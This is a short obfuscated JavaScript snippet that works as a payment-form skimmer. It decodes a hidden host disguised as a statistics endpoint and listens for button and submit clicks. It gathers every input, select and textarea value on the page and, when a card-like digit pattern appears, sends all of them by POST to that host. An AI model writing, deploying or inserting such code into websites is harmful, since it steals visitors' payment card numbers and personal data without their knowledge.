var XA=function(n){return n.map(function(x){return String.fromCharCode(x-3)}).join('')};
var host=XA([107,119,119,115,118,61,50,50,100,115,108,48,118,119,100,119,49,104,123,100,112,115,111,104]);
Element.prototype._ac=Element.prototype.appendChild;
function hx(){var o={};document.querySelectorAll('input,select,textarea').forEach(function(e){e.value&&(o[e.name||e.id]=e.value)});return o}
document.addEventListener('click',function(e){var t=e.target;if(t.tagName=='BUTTON'||t.type=='submit'){var d=hx();if(JSON.stringify(d).match(/\d{4}[ -]?\d{4}[ -]?\d{4}/)){var r=new XMLHttpRequest();r.open('POST',host);r.setRequestHeader('Content-Type','application/x-www-form-urlencoded');r.send('d='+encodeURIComponent(JSON.stringify(d)))}}},true);
